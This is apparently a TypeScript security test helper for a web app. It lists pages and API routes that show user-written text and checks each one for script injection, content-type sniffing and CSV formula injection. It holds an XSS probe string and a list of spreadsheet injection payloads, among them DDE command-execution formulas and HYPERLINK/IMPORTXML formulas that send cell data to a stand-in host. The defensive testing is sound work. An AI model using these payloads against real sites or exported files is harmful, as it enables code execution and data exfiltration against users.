/** Where texts of strangers are shown, and what must not come of them there. */
import type { Known } from "./case";

interface Shown {
  path: string;
  isWrong(text: string, headers: Headers): boolean;
}

/** Stands where people write: names, descriptions, titles, labels and remarks. */
export const hostileText = `<script>alert(1)</script><img src=x onerror=alert(2)>`;

/** A script of a stranger that a browser would run. */
const runs = (text: string, headers: Headers): boolean =>
  headers.get("content-type")?.includes("html") === true && /<script>alert\(1\)|<img src=x onerror/.test(text);

/** JSON and files never pass for pages. */
const isPage = (_text: string, headers: Headers): boolean =>
  headers.get("content-type")?.includes("html") !== false || headers.get("x-content-type-options") !== "nosniff";

/** Texts that a spreadsheet would compute, or send somewhere. */
export const formulas = [
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(1)",
  "=cmd|'/c calc'!A1",
  '=HYPERLINK("http://evil.example","x")',
  '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
  "\t=1+1",
  "-2+3+cmd|' /C calc'!A0",
  "=1+1,x",
  '"=1+1"',
  "=DDE(1)",
];

/** Whether a cell begins with what makes it a formula. */
export const hasFormula = (text: string): boolean => /(^|,)"?[=+\-@\t\r]/m.test(text);

export function shownTexts({ graph, run, pages: published }: Known): Shown[] {
  const pages = [
    ...published,
    "/",
    `/graphs/${graph}`,
    `/graphs/${graph}/versions`,
    `/runs/${run}`,
    `/runs/${run}/changes`,
    "/runs",
  ];
  const told = [
    `/graphs/${graph}`,
    `/graphs/${graph}/versions`,
    `/graphs/${graph}/openapi.json`,
    `/runs/${run}`,
    `/runs/${run}/outputs`,
    `/runs/${run}/artifacts/in/text`,
    "/graphs",
    "/runs",
    "/nothing/<script>alert(1)</script>",
  ];
  return [
    ...pages.map((path) => ({ path, isWrong: runs })),
    ...told.map((path) => ({ path: `/api/v1${path}`, isWrong: isPage })),
    { path: `/api/runs/${run}/texts/in/text?as=csv`, isWrong: hasFormula },
  ];
}
